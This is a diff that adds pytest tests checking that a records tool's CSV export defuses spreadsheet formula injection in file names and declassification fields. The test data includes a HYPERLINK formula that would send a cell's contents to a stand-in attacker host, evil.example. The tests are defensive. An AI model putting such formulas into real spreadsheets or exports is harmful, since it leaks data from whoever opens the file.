@@ -143,3 +143,44 @@ def test_output_format_follows_the_file_s_suffix(capsys, tmp_path):
     target = tmp_path / "table.csv"
     check(capsys, str(SAMPLE), "--output", str(target), "--format", "table", "--jobs", "1")
     assert target.read_text().startswith("STATUS")
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_csv_cells_are_never_live_formulas(capsys, tmp_path, monkeypatch):
+    """Newcomer 5, finding 25: the records officer's CSV is opened in a spreadsheet, and its
+    file names and DECL text come from the archive. Each start a spreadsheet runs as a
+    formula, in a file name and in the DECL line, comes out as text (the Vaughn index's guard,
+    workbench.safeio.spreadsheet). (The reader strips a tab after DECL: and a carriage return
+    ends the line, so those two are tried in file names only.)"""
+    text = SAMPLE.read_text(encoding="utf-8")
+    names = []
+    for i, start in enumerate(FORMULA_STARTS):
+        name = f"{start}cmd{i}.txt"
+        decl = f'{start}HYPERLINK("http://evil.example/?"&A1,"click{i}")'
+        (tmp_path / name).write_text(text.replace("DECL: 01/23/2017", f"DECL: {decl}"))
+        names.append(name)
+    monkeypatch.chdir(tmp_path)
+    code, out, err = check(capsys, "--format", "csv", "--jobs", "1", "--", *names)
+    assert code == 0, err
+    rows = list(csv.reader(io.StringIO(out)))[1:]
+    assert len(rows) == len(FORMULA_STARTS)
+    assert sorted(r[0][1:] for r in rows) == sorted(names)  # each path, behind its apostrophe
+    cells = [c for row in rows for c in row]
+    for i in range(4):  # the DECL text is in its cell, made text
+        assert any(f'HYPERLINK("http://evil.example/?"&A1,"click{i}")' in c for c in cells)
+    assert not [c for c in cells if c[:1] in FORMULA_STARTS], cells
+
+
+def test_the_spreadsheet_guard_is_the_one_the_vaughn_index_uses():
+    """One guard for every CSV: the Vaughn index, the case manifest and check's report."""
+    from workbench.batch import formats
+    from workbench.case import package
+    from workbench.export import vaughn
+    from workbench.safeio.spreadsheet import inert
+
+    assert vaughn.inert is formats.inert is package.inert is inert
+    for start in FORMULA_STARTS:
+        assert inert(f"{start}1+1") == f"'{start}1+1"
+    assert inert("-") == "-" and inert("07SEOUL219") == "07SEOUL219" and inert("") == ""
